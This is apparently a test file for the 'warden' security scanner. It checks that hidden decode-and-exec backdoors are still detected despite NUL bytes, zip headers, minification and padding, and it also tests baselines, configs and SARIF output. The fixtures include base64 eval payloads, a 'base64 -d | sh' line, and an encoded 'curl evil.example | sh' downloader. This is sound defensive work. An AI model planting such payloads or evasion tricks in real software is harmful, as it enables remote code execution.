// Attacks on `warden scan`: ways to make it read less than it should (binary and minified
// disguises, folder names, untracked files), baselines and configs that depend on how a path is
// typed, SARIF that validators reject, and errors that exit 0. The real CLI on real files.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { copyFileSync, existsSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { randomBytes } from 'node:crypto';
import { join } from 'node:path';

const BIN = join(import.meta.dirname, '..', '..', 'bin', 'warden.js');
function warden(args: string[], cwd: string, input?: string) {
  const r = spawnSync(process.execPath, [BIN, ...args], { cwd, input, encoding: 'utf8', timeout: 120_000 });
  return { code: r.status, out: r.stdout, err: r.stderr };
}
type Json = { findings: { ruleId: string; file: string; suppressed?: unknown }[]; notes: Note[] };
type Note = { file: string; kind: string; reason: string };
const json = (args: string[], cwd: string) => {
  const r = warden([...args, '--format', 'json'], cwd);
  assert.ok(r.code === 0 || r.code === 1, `exit ${r.code}: ${r.err}`);
  return { code: r.code, ...(JSON.parse(r.out) as Json) };
};
const tmp = () => mkdtempSync(join(tmpdir(), 'warden-scan-'));
const git = (cwd: string, ...a: string[]) => spawnSync('git', a, { cwd, encoding: 'utf8' });
function gitRepo(dir: string) {
  git(dir, 'init', '-q');
  git(dir, 'config', 'user.email', 't@example.com');
  git(dir, 'config', 'user.name', 't');
}
const EVAL = 'import os\nos.system("rm " + name)\n';
const PAYLOAD = 'const b = "Y29uc29sZS5sb2coMSk=";\neval(Buffer.from(b, "base64").toString());\n';
const ids = (j: Json) => j.findings.filter((f) => !f.suppressed).map((f) => f.ruleId);

for (const repoKind of ['git', 'plain'] as const)
  test(`a baseline written by scan repo suppresses in scan /abs/repo, scan . inside and scan repo/a.py (${repoKind} folder)`, () => {
    const parent = tmp();
    const repo = join(parent, 'repo');
    mkdirSync(join(repo, 'svc'), { recursive: true });
    if (repoKind === 'git') gitRepo(repo);
    writeFileSync(join(repo, 'a.py'), EVAL);
    writeFileSync(join(repo, 'svc', 'b.py'), EVAL);
    const written = warden(['scan', 'repo', '--write-baseline', 'repo/.warden-baseline.json'], parent);
    assert.equal(written.code, 1, written.err);
    const base = ['--baseline', join(repo, '.warden-baseline.json')];
    for (const [args, cwd] of [
      [['scan', repo], parent],
      [['scan', '.'], repo],
      [['scan', 'repo/a.py'], parent],
      [['scan', 'b.py'], join(repo, 'svc')],
      [['scan', '../svc'], join(repo, 'svc')],
    ] as const) {
      const j = json([...args, ...base], cwd);
      assert.equal(j.code, 0, `${args.join(' ')} in ${cwd}: ${ids(j).join()}`);
      assert.ok(j.findings.length > 0 && j.findings.every((f) => f.suppressed), args.join(' '));
    }
  });

test('the baseline a repository config names suppresses when the repo is scanned from outside or inside', () => {
  const parent = tmp();
  const repo = join(parent, 'repo');
  mkdirSync(join(repo, 'src'), { recursive: true });
  gitRepo(repo);
  writeFileSync(join(repo, 'src', 'a.py'), EVAL);
  writeFileSync(join(repo, '.warden.yml'), 'baseline: ci/baseline.json\n');
  mkdirSync(join(repo, 'ci'));
  assert.equal(warden(['scan', '.', '--write-baseline', 'ci/baseline.json'], repo).code, 1);
  assert.equal(warden(['scan', 'repo'], parent).code, 0);
  assert.equal(warden(['scan', 'a.py'], join(repo, 'src')).code, 0);
  assert.equal(warden(['scan', '.'], repo).code, 0);
});

test('a .warden.yml in the scanned folder (fail-on, excludes) applies when the scan runs from another folder', () => {
  const parent = tmp();
  const repo = join(parent, 'repo');
  mkdirSync(join(repo, 'lib'), { recursive: true });
  gitRepo(repo);
  writeFileSync(join(repo, 'lib', 'r.py'), 'import random\nx = random.random()\n');
  writeFileSync(join(repo, '.warden.yml'), 'fail-on: low\n');
  assert.equal(warden(['scan', 'repo'], parent).code, 1);
  assert.equal(warden(['scan', 'repo/lib'], parent).code, 1, 'walks up to the repository root');
  assert.equal(warden(['scan', join(repo, 'lib', 'r.py')], tmpdir()).code, 1);
  // Its excludes are relative to its own folder, wherever the scan runs from.
  mkdirSync(join(repo, 'gen'));
  writeFileSync(join(repo, 'gen', 'x.py'), EVAL);
  writeFileSync(join(repo, '.warden.yml'), 'exclude: ["gen/**", "lib/"]\n');
  for (const [path, cwd] of [
    ['repo', parent],
    ['.', repo],
    [repo, tmpdir()],
  ])
    assert.equal(warden(['scan', path, '--fail-on', 'low'], cwd).code, 0, `scan ${path} in ${cwd}`);
  // A broken config of the scanned repo is an error, not a silent default.
  writeFileSync(join(repo, '.warden.yml'), 'fail-on: loud\n');
  const bad = warden(['scan', 'repo'], parent);
  assert.equal(bad.code, 2);
  assert.match(bad.err, /fail-on must be one of/);
});

test('a bare warden-ignore without a rule id suppresses nothing and is reported as a note', () => {
  const d = tmp();
  writeFileSync(join(d, 'a.py'), 'import os\nos.system("rm " + name)  # warden-ignore\n');
  const j = json(['scan', '.'], d);
  assert.equal(j.code, 1);
  assert.ok(ids(j).includes('python.os-system-injection'));
  assert.ok(
    j.notes.some((n) => n.file === 'a.py' && /warden-ignore without a rule id/.test(n.reason)),
    JSON.stringify(j.notes),
  );
});

test('a folder named venv that is not a virtualenv is scanned; a real virtualenv is skipped with a note', () => {
  const d = tmp();
  mkdirSync(join(d, 'Lib', 'venv'), { recursive: true });
  writeFileSync(join(d, 'Lib', 'venv', '__init__.py'), EVAL);
  mkdirSync(join(d, 'env', 'lib'), { recursive: true });
  writeFileSync(join(d, 'env', 'pyvenv.cfg'), 'home = /usr/bin\n');
  writeFileSync(join(d, 'env', 'lib', 'x.py'), EVAL);
  const j = json(['scan', '.'], d);
  assert.equal(j.code, 1);
  assert.ok(j.findings.some((f) => f.file === join('Lib', 'venv', '__init__.py')));
  assert.ok(!j.findings.some((f) => f.file.startsWith('env')));
  assert.ok(j.notes.some((n) => n.file === 'env' && n.kind === 'skipped'));
});

test('one NUL byte in a comment of a script does not make the scan skip it; the payload is found, exit 1', () => {
  const d = tmp();
  writeFileSync(join(d, 'a.js'), `// build tag \0\n${PAYLOAD}`);
  // Padding the comment with NUL and control bytes does not hide it either (node runs this file).
  writeFileSync(join(d, 'b.js'), `/* ${'\0\x01\x02'.repeat(2000)} */\n${PAYLOAD}`);
  const j = json(['scan', '.'], d);
  assert.equal(j.code, 1);
  for (const f of ['a.js', 'b.js'])
    assert.ok(
      j.findings.some((x) => x.file === f && x.ruleId === 'backdoor.decode-exec'),
      `${f}: ${JSON.stringify(j)}`,
    );
});

test('a script that starts with a zip header and NUL bytes (bash runs the lines after it) is scanned, exit 1', () => {
  const d = tmp();
  writeFileSync(join(d, 'x.sh'), 'PK\x03\x04\x00\x00\n#!/bin/sh\necho aWQ= | base64 -d | sh\n');
  const j = json(['scan', '.'], d);
  assert.equal(j.code, 1);
  assert.ok(
    j.findings.some((f) => f.file === 'x.sh' && f.ruleId === 'backdoor.decode-exec'),
    JSON.stringify(j),
  );
});

test('the guard judges a script with a NUL byte in a comment before node runs it, and denies its payload', async () => {
  const { judge, loadAnalyzers } = await import('../../src/engine/judge.ts');
  const { builtinPolicy } = await import('../../src/engine/policy.ts');
  await loadAnalyzers();
  const d = tmp();
  writeFileSync(join(d, 'a.js'), `// build \0\n${PAYLOAD}`);
  const v = judge({ tool: 'shell', command: 'node a.js' }, { policy: builtinPolicy(), cwd: d, workspace: d });
  assert.equal(v.decision, 'deny', v.reasons.join('\n'));
  assert.ok(v.findings.some((f) => f.ruleId === 'backdoor.decode-exec'));
});

test('a real binary (an ELF executable, a PNG, random bytes) is skipped as binary with a note; a text with one NUL is read', () => {
  const d = tmp();
  copyFileSync('/bin/ls', join(d, 'tool'));
  writeFileSync(join(d, 'data.dat'), Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), Buffer.alloc(64)]));
  // Random bytes (a bloom filter) are about 10% control bytes and not UTF-8: binary too.
  const random = randomBytes(8192);
  random[0] = 0;
  writeFileSync(join(d, 'set.bloom'), random);
  // A text that is not named as code, with one NUL byte, is still read: its secret is found.
  writeFileSync(join(d, 'notes.txt'), 'deploy key\0\ntoken = "ghp_R3aLl9qWkT0kVn4uXe8s2ZpL7mHc5bYd1fGj"\n');
  const j = json(['scan', '.'], d);
  assert.ok(
    j.findings.some((f) => f.file === 'notes.txt' && f.ruleId.startsWith('secret.')),
    ids(j).join(),
  );
  for (const f of ['tool', 'data.dat', 'set.bloom'])
    assert.ok(
      j.notes.some((n) => n.file === f && n.kind === 'skipped' && /binary/.test(n.reason)),
      JSON.stringify(j.notes),
    );
});

test('a script with one 6,000-character line is scanned in full, exit 1', () => {
  const d = tmp();
  const table = `const table = [${Array.from({ length: 1500 }, (_, i) => i).join(',')}];\n`;
  assert.ok(table.length > 5000);
  writeFileSync(join(d, 'app.js'), table + PAYLOAD + "require('child_process').exec('ls ' + process.argv[2]);\n");
  const j = json(['scan', '.'], d);
  assert.equal(j.code, 1);
  assert.ok(ids(j).includes('backdoor.decode-exec'), ids(j).join());
  assert.ok(!j.notes.some((n) => n.file === 'app.js' && /minified/.test(n.reason)));
});

test('a payload padded past max-file-size is still found (the file is read by the line checks, with a note); one past 64 MB is a high finding, never a silent pass', () => {
  const d = tmp();
  const payload =
    'require("child_process").exec(Buffer.from("Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=","base64").toString())\n';
  writeFileSync(join(d, 'index.js'), `// ${'x'.repeat(100)}\n`.repeat(30_000) + payload);
  const j = json(['scan', '.'], d);
  assert.equal(j.code, 1);
  assert.ok(
    j.findings.some((f) => f.file === 'index.js' && f.ruleId === 'backdoor.decode-exec'),
    JSON.stringify(j),
  );
  assert.ok(j.notes.some((n) => n.file === 'index.js' && n.kind === 'partial' && /max-file-size/.test(n.reason)));
  const huge = tmp();
  writeFileSync(join(huge, 'bundle.js'), `var a = 1;\n`.repeat(6_200_000));
  const h = json(['scan', '.'], huge);
  assert.equal(h.code, 1);
  assert.deepEqual(
    h.findings.map((f) => f.ruleId),
    ['scan.file-not-read'],
  );
});

test('a chain of assignments from a decoded value (500 KB) is read in bounded time, followed two assignments deep, not to the end of the file (was 56 s)', () => {
  const d = tmp();
  const lines = ['const a0 = atob(x);'];
  for (let i = 1; i < 20_000; i++) lines.push(`const a${i} = a${i - 1} + 1;`);
  writeFileSync(join(d, 'chain.js'), lines.join('\n') + '\n');
  const t0 = Date.now();
  const j = json(['scan', '.'], d);
  assert.ok(Date.now() - t0 < 15_000, `${Date.now() - t0} ms`);
  assert.deepEqual(j.findings, []);
  // (near miss the other way: decoded and run a few lines later is still found)
  writeFileSync(join(d, 'chain.js'), 'const p = atob(x);\nconst q = p;\n' + 'f();\n'.repeat(20) + 'eval(q);\n');
  assert.ok(json(['scan', '.'], d).findings.some((f) => f.ruleId === 'backdoor.decode-exec'));
});

test('a payload inside a minified bundle is still found, with a note that code rules were skipped', () => {
  const d = tmp();
  const filler = Array.from({ length: 4000 }, (_, i) => `window.f${i}=(a)=>a*${i}+1`).join(';');
  writeFileSync(join(d, 'bundle.js'), filler + ';var k="Y29uc29sZS5sb2coMSk=";eval(atob(k));' + filler);
  writeFileSync(join(d, 'lib.min.js'), 'var k="Y29uc29sZS5sb2coMSk=";eval(atob(k));');
  // A stray quote in a comment before the payload does not turn the rest of the line into a string.
  writeFileSync(join(d, 'quoted.js'), filler + ';/*\'*/var k="Y29uc29sZS5sb2coMSk=";eval(atob(k));' + filler);
  const j = json(['scan', '.'], d);
  assert.equal(j.code, 1);
  for (const f of ['bundle.js', 'lib.min.js', 'quoted.js']) {
    assert.ok(
      j.findings.some((x) => x.file === f && x.ruleId === 'backdoor.decode-exec'),
      `${f}: ${ids(j).join()}`,
    );
    assert.ok(j.notes.some((n) => n.file === f && /minified/.test(n.reason)));
  }
});

test('--diff HEAD includes new untracked files as wholly added, but not ignored ones', () => {
  const d = tmp();
  gitRepo(d);
  writeFileSync(join(d, 'old.py'), 'x = 1\n');
  writeFileSync(join(d, '.gitignore'), 'build/\n');
  git(d, 'add', '.');
  git(d, 'commit', '-qm', 'base');
  writeFileSync(join(d, 'new.py'), EVAL);
  mkdirSync(join(d, 'build'));
  writeFileSync(join(d, 'build', 'gen.py'), EVAL);
  const j = json(['scan', '--diff', 'HEAD'], d);
  assert.equal(j.code, 1);
  assert.deepEqual([...new Set(j.findings.map((f) => f.file))], ['new.py']);
});

/** The SARIF 2.1.0 rules on URIs that Microsoft's validator checks (SARIF1004 and its neighbours). */
function sarifUriProblems(s: {
  runs: {
    originalUriBaseIds?: Record<string, { uri: string }>;
    results: { locations: { physicalLocation: { artifactLocation: { uri: string; uriBaseId?: string } } }[] }[];
  }[];
}): string[] {
  const bad: string[] = [];
  for (const run of s.runs) {
    const bases = run.originalUriBaseIds ?? {};
    for (const [id, b] of Object.entries(bases))
      if (!/^file:\/\/\//.test(b.uri) || !b.uri.endsWith('/')) bad.push(`base ${id}: ${b.uri}`);
    for (const r of run.results)
      for (const l of r.locations) {
        const a = l.physicalLocation.artifactLocation;
        const absolute = /^[a-z][a-z0-9+.-]*:/i.test(a.uri);
        if (a.uri.startsWith('/')) bad.push(`absolute path, not a URI: ${a.uri}`);
        else if (!absolute && !(a.uriBaseId && bases[a.uriBaseId])) bad.push(`relative without a base: ${a.uri}`);
        else if (absolute && a.uriBaseId) bad.push(`absolute with a base: ${a.uri}`);
        try {
          new URL(a.uri, absolute ? undefined : bases[a.uriBaseId!].uri);
        } catch {
          bad.push(`not a URI: ${a.uri}`);
        }
        if (/[\s<>"{}|\\^`]/.test(a.uri)) bad.push(`unencoded characters: ${a.uri}`);
      }
  }
  return bad;
}

test('SARIF of a folder outside the working folder has only URIs a SARIF validator accepts', () => {
  const d = tmp();
  mkdirSync(join(d, 'my dir'));
  writeFileSync(join(d, 'my dir', 'a.py'), EVAL);
  writeFileSync(join(d, 'b.py'), EVAL);
  const r = warden(['scan', d, '--format', 'sarif'], tmpdir());
  assert.equal(r.code, 1, r.err);
  const s = JSON.parse(r.out);
  assert.deepEqual(sarifUriProblems(s), []);
  const uris = s.runs[0].results.map(
    (x: { locations: { physicalLocation: { artifactLocation: { uri: string } } }[] }) =>
      x.locations[0].physicalLocation.artifactLocation.uri,
  );
  assert.ok(uris.includes('my%20dir/a.py') && uris.includes('b.py'), uris.join());
  // Two files, one outside the first path's folder: still URIs (file:// when outside the root).
  const other = tmp();
  writeFileSync(join(other, 'c.py'), EVAL);
  const two = JSON.parse(warden(['scan', join(d, 'b.py'), join(other, 'c.py'), '--format', 'sarif'], tmpdir()).out);
  assert.deepEqual(sarifUriProblems(two), []);
});

test('scan of an existing file and a missing path exits 2, not 0', () => {
  const d = tmp();
  writeFileSync(join(d, 'ok.py'), 'x = 1\n');
  const r = warden(['scan', 'ok.py', '/nonexistent'], d);
  assert.equal(r.code, 2, r.out);
  assert.match(r.out, /path does not exist/);
});

test('--stdin --lang cobol exits 2 with a one-line error', () => {
  const r = warden(['scan', '--stdin', '--lang', 'cobol'], tmpdir(), 'DISPLAY "HI".\n');
  assert.equal(r.code, 2);
  assert.equal(r.err.trim().split('\n').length, 1, r.err);
  assert.match(r.err, /--lang cobol/);
});

test('--output and --write-baseline into a missing folder exit 2 with a one-line error, no stack trace', () => {
  const d = tmp();
  writeFileSync(join(d, 'ok.py'), 'x = 1\n');
  for (const args of [
    ['--output', 'nope/out.sarif'],
    ['--write-baseline', 'nope/b.json'],
  ]) {
    const r = warden(['scan', '.', ...args], d);
    assert.equal(r.code, 2, args.join(' '));
    assert.equal(r.err.trim().split('\n').length, 1, r.err);
    assert.doesNotMatch(r.err, /\bat \w|internal error/);
    assert.ok(!existsSync(join(d, 'nope')));
  }
});

test('typeof opts.apiKey === string in an SDK is not a master password; a real one in the same scan is', () => {
  const d = tmp();
  writeFileSync(
    join(d, 'client.js'),
    "export class Client {\n  constructor(opts) {\n    if (typeof opts.apiKey === 'string') this.key = opts.apiKey;\n" +
      "    if ('string' !== typeof opts.apiKey) throw new Error('apiKey');\n" +
      "    const hasProvider = typeof (opts as any)?._options?.apiKey === 'function';\n  }\n}\n",
  );
  writeFileSync(join(d, 'auth.js'), 'function ok(password) {\n  if (password === "hunter2-master") return true;\n}\n');
  const j = json(['scan', '.'], d);
  const mp = j.findings.filter((f) => f.ruleId === 'backdoor.master-password').map((f) => f.file);
  assert.deepEqual(mp, ['auth.js']);
  assert.ok(readFileSync(join(d, 'client.js'), 'utf8').includes('typeof'));
});
